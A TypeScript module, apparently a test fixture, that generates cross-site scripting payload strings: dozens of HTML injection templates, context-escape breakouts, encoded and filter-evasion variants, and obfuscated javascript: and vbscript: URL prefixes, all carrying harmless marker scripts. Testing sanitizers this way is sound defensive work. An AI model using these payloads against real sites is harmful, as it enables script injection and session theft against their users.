type Template = (script: string) => string;

const elements: Template[] = [
  (script) => `<script>${script}</script>`,
  (script) => `<SCRIPT type=module>${script}</SCRIPT>`,
  (script) => `<img src=x onerror="${script}">`,
  (script) => `<img src=x onerror=${script}//`,
  (script) => `<svg onload=${script}>`,
  (script) => `<svg><script>${script}</script></svg>`,
  (script) => `<svg><animate onbegin=${script} attributeName=x dur=1s>`,
  (script) => `<math><mtext><table><mglyph><style><img src=x onerror=${script}>`,
  (script) => `<iframe srcdoc="<script>parent.${script}</script>"></iframe>`,
  (script) => `<iframe src="javascript:parent.${script}"></iframe>`,
  (script) => `<object data="javascript:${script}"></object>`,
  (script) => `<embed src="javascript:${script}">`,
  (script) => `<a href="javascript:${script}">here</a>`,
  (script) => `<form action="javascript:${script}"><button autofocus>go</button></form>`,
  (script) => `<details open ontoggle=${script}>`,
  (script) => `<input autofocus onfocus=${script}>`,
  (script) => `<video><source onerror=${script}></video>`,
  (script) => `<body onload=${script}>`,
  (script) => `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
  (script) => `<link rel=stylesheet href="data:text/css,*{display:none}" onload=${script}>`,
  (script) => `<base href="javascript:${script}//">`,
  (script) => `<marquee onstart=${script}>`,
  (script) => `<template><script>${script}</script></template>`,
  (script) => `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
];

const escapes: Template[] = [
  (script) => `"><script>${script}</script>`,
  (script) => `'><img src=x onerror=${script}>`,
  (script) => `" autofocus onfocus="${script}" x="`,
  (script) => `' onmouseover='${script}' style='position:fixed;inset:0`,
  (script) => `</title><script>${script}</script>`,
  (script) => `</textarea></style></script><script>${script}</script>`,
  (script) => `--><script>${script}</script><!--`,
  (script) => `]]><script>${script}</script>`,
  (script) => `\\"];${script};//`,
  (script) => `"]);${script};self.__next_f.push([1,"`,
  (script) => `\u2028${script}\u2029`,
  (script) => `\${${script}}`,
  (script) => `{{constructor.constructor('${script}')()}}`,
  (script) => `&lt;img src=x onerror=${script}&gt;`,
  (script) => `%3Cscript%3E${script}%3C/script%3E`,
  (script) => `\\x3cscript\\x3e${script}\\x3c/script\\x3e`,
  (script) => `<scr<script>ipt>${script}</scr</script>ipt>`,
];

const TEMPLATES = [...elements, ...escapes];

/** Texts that would run a script where they are taken for markup: it sets `__xss` or opens a dialog. */
export function scriptPayloads(count: number): string[] {
  return Array.from({ length: count }, (_, index) => {
    const script = index % 2 === 0 ? `window.__xss=${index}` : `alert(${index})`;
    return TEMPLATES[index % TEMPLATES.length]?.(script) ?? "";
  });
}

/** Addresses that run a script, or are a page of their own, when they become links. */
export function scriptAddresses(count: number): string[] {
  const starts = [
    "javascript:",
    "JaVaScRiPt:",
    " javascript:",
    "java\tscript:",
    "data:text/html,<script>",
    "vbscript:",
  ];
  return Array.from({ length: count }, (_, index) => `${starts[index % starts.length]}window.__xss=${index}//`);
}
